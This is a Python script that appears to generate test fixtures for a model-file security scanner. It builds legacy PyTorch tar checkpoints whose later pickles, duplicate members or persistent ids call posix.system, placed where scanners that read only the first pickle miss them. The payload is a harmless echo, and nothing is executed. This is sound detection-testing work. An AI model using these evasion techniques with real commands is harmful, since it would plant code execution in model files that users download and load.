#!/usr/bin/python3
"""Writes samples/bypass/legacy-tar-members/: PyTorch's oldest checkpoint layout (a tar with members
`sys_info`, `pickle`, `storages`, `tensors`) with payloads in the pickles that follow the first one of
a member, where a reader that stops at a member's first pickle never looks.

torch.load (weights_only=False) on a file that is not a zip opens it with tarfile and, in
torch.serialization.legacy_load, reads member `storages` with plain pickle.load from an unbuffered
file: a count pickle; per storage a pickle (key, location, storage_type) followed by an 8-byte
little-endian element count and count x element-size raw bytes (the element size of the storage
type); then one more pickle, the storage views. Member `tensors`: a count pickle; per tensor a
pickle (key, storage_id, tensor_type) followed by an int32 ndim, 4 skipped bytes, ndim int64 sizes,
ndim int64 strides and an int64 storage offset. Member `pickle` is the object, whose persistent ids
name the storages and tensors by key.

torch is not needed (and modern torch cannot write this layout): the members are built here exactly
as legacy torch wrote them, with Python's pickle (protocol 2, torch's default then; the storage and
tensor classes are pickled by reference from a stand-in module named `torch`), struct and tarfile
(PAX format, fixed mtime/owner).

- benign/pytorch_model.bin: two storages (float32 and int64), their views list, two tensors, the
  object pickle: not `malicious`, every pickle analysed.
- views_evil/pytorch_model.bin and views_evil/model.pt: the storage views pickle (after the raw
  storage bytes) calls posix.system: `malicious`.
- tensor_evil/pytorch_model.bin: the second tensor's header pickle calls posix.system: `malicious`.
- size_past_end/pytorch_model.bin: a storage declares more elements than the member holds
  (torch.load raises): `invalid` at least.
- unknown_type/pytorch_model.bin: a storage of a class torch has no element size for
  (torch.load raises): `invalid` at least.
- duplicate_member/pytorch_model.bin: a second member `storages` (tarfile, so torch, reads the last
  one) whose storage views pickle calls posix.system: `malicious`.
- trailing/pytorch_model.bin: bytes after the storage views pickle (torch.load never reads them):
  `invalid` at least.
- pid_evil/pytorch_model.bin: the object pickle's persistent id is a tuple, (posix.system, '', ''):
  legacy_load's persistent_load returns its first item, which the pickle then calls: `malicious`.
- pid_list/pytorch_model.bin: a persistent id that is a list (legacy_load's int(id) raises): a
  `pickle/persistent-id` finding, not `clean`.

Payloads are harmless (`echo modelgate-bypass-sample`) and nothing is executed here: each member is
read back by a small reader that follows the layout above with an Unpickler whose find_class returns
recording stubs, which proves that the payload is reached (and that the benign file reads to its
end). Deterministic. Run from the repository root with /usr/bin/python3.
"""
import io
import os
import pickle
import shutil
import struct
import sys
import tarfile
import types

ROOT = os.path.join("samples", "bypass", "legacy-tar-members")
PAYLOAD = "echo modelgate-bypass-sample"
PROTOCOL = 2
ELEMENT_SIZE = {"FloatStorage": 4, "LongStorage": 8}

# A stand-in module `torch` so that pickle writes GLOBAL torch.<Class> as legacy torch.save did.
torch = types.ModuleType("torch")
for cls in ("FloatStorage", "LongStorage", "FloatTensor", "LongTensor", "FooStorage"):
    setattr(torch, cls, type(cls, (), {"__module__": "torch"}))
sys.modules["torch"] = torch
posix = __import__("posix")


class Evil:
    def __reduce__(self):
        return (posix.system, (PAYLOAD,))


def dumps(obj):
    return pickle.dumps(obj, protocol=PROTOCOL)


class Ref:  # a persistent id of the object pickle
    def __init__(self, key):
        self.key = key


class Hidden:  # persisted as (posix.system, '', ''): legacy_load's persistent_load returns posix.system
    def __call__(self, *args):  # (the pickler wants a callable)
        pass


class CallsHidden:
    def __reduce__(self):
        return (Hidden(), (PAYLOAD,))


class Odd:  # persisted as a list: int(["odd"]) raises in legacy_load's persistent_load
    pass


class ObjectPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Odd):
            return ["odd"]
        if isinstance(obj, Hidden):
            return (posix.system, "", "")
        return str(obj.key) if isinstance(obj, Ref) else None


def object_pickle(obj):
    buf = io.BytesIO()
    ObjectPickler(buf, protocol=PROTOCOL).dump(obj)
    return buf.getvalue()


# (key, location, storage class name, raw element values)
STORAGES = [(0, "cpu", "FloatStorage", [0.5, 1.0, 1.5, 2.0, 2.5, 3.0]), (1, "cpu", "LongStorage", [7, 9])]
# (key, storage key, tensor class name, sizes, strides, storage offset)
TENSORS = [(2, 0, "FloatTensor", (2, 3), (3, 1), 0), (3, 1, "LongTensor", (2,), (1,), 0)]


def storage_record(key, location, cls, values, count=None):
    fmt = "<%d%s" % (len(values), "f" if cls == "FloatStorage" else "q")
    data = struct.pack(fmt, *values) if cls in ELEMENT_SIZE else bytes(4 * len(values))
    head = dumps((key, location, getattr(torch, cls)))
    return head + struct.pack("<q", len(values) if count is None else count) + data


def storages_member(records=None, views=None, after=b""):
    records = [storage_record(*s) for s in STORAGES] if records is None else records
    views = dumps([]) if views is None else views
    return dumps(len(records)) + b"".join(records) + views + after


def tensor_record(key, storage, cls, sizes, strides, offset, head=None):
    head = dumps((key, storage, getattr(torch, cls))) if head is None else head
    ndim = len(sizes)
    return (
        head
        + struct.pack("<i", ndim)
        + b"\0" * 4
        + struct.pack("<%dq" % ndim, *sizes)
        + struct.pack("<%dq" % ndim, *strides)
        + struct.pack("<q", offset)
    )


def tensors_member(records=None):
    records = [tensor_record(*t) for t in TENSORS] if records is None else records
    return dumps(len(records)) + b"".join(records)


SYS_INFO = dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 8}})
OBJECT = object_pickle({"weight": Ref(2), "index": Ref(3)})


def checkpoint(storages, tensors, extra=(), obj=OBJECT):
    buf = io.BytesIO()
    members = [("sys_info", SYS_INFO), ("pickle", obj), ("storages", storages), ("tensors", tensors), *extra]
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# ------------------------------------------------------------------ checking reader (no execution)
CALLS = []


class Stub:
    def __init__(self, name):
        self.name = name

    def __call__(self, *args):
        CALLS.append((self.name, args))
        return 0


class Recording(pickle.Unpickler):
    def find_class(self, module, name):
        return Stub(f"{module}.{name}")


def load(f):
    return Recording(f).load()


class ObjectRecording(Recording):
    """The object pickle, with legacy_load's persistent_load: a tuple id yields its first item,
    any other id the object read under the key int(id)."""

    def persistent_load(self, saved_id):
        if isinstance(saved_id, tuple):
            return saved_id[0]
        return ("object", int(saved_id))


class Raised(Exception):
    pass


def read_checkpoint(data):
    """Follows the member layouts as torch's legacy_load does; returns CALLS, raises Raised where
    torch.load raises."""
    CALLS.clear()
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as tar:
        raw = io.BytesIO(tar.extractfile("storages").read())
        try:
            for _ in range(load(raw)):
                key, location, storage_type = load(raw)
                size = ELEMENT_SIZE.get(storage_type.name.split(".")[-1])
                if size is None:
                    raise Raised(f"unknown storage type {storage_type.name}")
                (count,) = struct.unpack("<q", raw.read(8))
                if len(raw.read(count * size)) != count * size:
                    raise Raised("storage data truncated")
            load(raw)  # storage views
            extra = len(raw.read())
            raw = io.BytesIO(tar.extractfile("tensors").read())
            for _ in range(load(raw)):
                key, storage, tensor_type = load(raw)
                (ndim,) = struct.unpack("<i", raw.read(4))
                raw.read(4)
                struct.unpack("<%dq" % ndim, raw.read(8 * ndim))
                struct.unpack("<%dq" % ndim, raw.read(8 * ndim))
                struct.unpack("<q", raw.read(8))
            extra += len(raw.read())
            ObjectRecording(io.BytesIO(tar.extractfile("pickle").read())).load()
        except (ValueError, TypeError, struct.error) as e:
            raise Raised(str(e)) from e
    return list(CALLS), extra


def reaches_payload(data):
    try:
        calls, _ = read_checkpoint(data)
    except Raised:
        calls = list(CALLS)
    assert ("posix.system", (PAYLOAD,)) in calls, calls


def write(rel, data):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


shutil.rmtree(ROOT, ignore_errors=True)

benign = checkpoint(storages_member(), tensors_member())
calls, extra = read_checkpoint(benign)
assert extra == 0 and all(c[0] != "posix.system" for c in calls), (calls, extra)
write("benign/pytorch_model.bin", benign)

views_evil = checkpoint(storages_member(views=dumps(Evil())), tensors_member())
reaches_payload(views_evil)
write("views_evil/pytorch_model.bin", views_evil)
write("views_evil/model.pt", views_evil)

evil_head = dumps((Evil(), 1, torch.LongTensor))
records = [tensor_record(*TENSORS[0]), tensor_record(*TENSORS[1], head=evil_head)]
tensor_evil = checkpoint(storages_member(), tensors_member(records))
reaches_payload(tensor_evil)
write("tensor_evil/pytorch_model.bin", tensor_evil)

past_end = checkpoint(storages_member([storage_record(0, "cpu", "FloatStorage", [1.0, 2.0], count=1000)]), tensors_member([]))
try:
    read_checkpoint(past_end)
    raise SystemExit("size_past_end reads")
except Raised:
    pass
write("size_past_end/pytorch_model.bin", past_end)

unknown = checkpoint(storages_member([storage_record(0, "cpu", "FooStorage", [0, 0])]), tensors_member([]))
try:
    read_checkpoint(unknown)
    raise SystemExit("unknown_type reads")
except Raised:
    pass
write("unknown_type/pytorch_model.bin", unknown)

# tarfile's getmember (torch's tar.extract) takes the LAST member of a name: a second `storages`
duplicate = checkpoint(storages_member(), tensors_member(), [("storages", storages_member(views=dumps(Evil())))])
reaches_payload(duplicate)
write("duplicate_member/pytorch_model.bin", duplicate)

pid_evil = checkpoint(storages_member(), tensors_member(), obj=object_pickle({"weight": Ref(2), "hook": CallsHidden()}))
reaches_payload(pid_evil)
write("pid_evil/pytorch_model.bin", pid_evil)

pid_list = checkpoint(storages_member(), tensors_member(), obj=object_pickle({"weight": Ref(2), "odd": Odd()}))
try:
    read_checkpoint(pid_list)
    raise SystemExit("pid_list reads")
except Raised:
    pass
write("pid_list/pytorch_model.bin", pid_list)

trailing = checkpoint(storages_member(after=b"\0" * 24), tensors_member())
calls, extra = read_checkpoint(trailing)
assert extra == 24, extra
write("trailing/pytorch_model.bin", trailing)
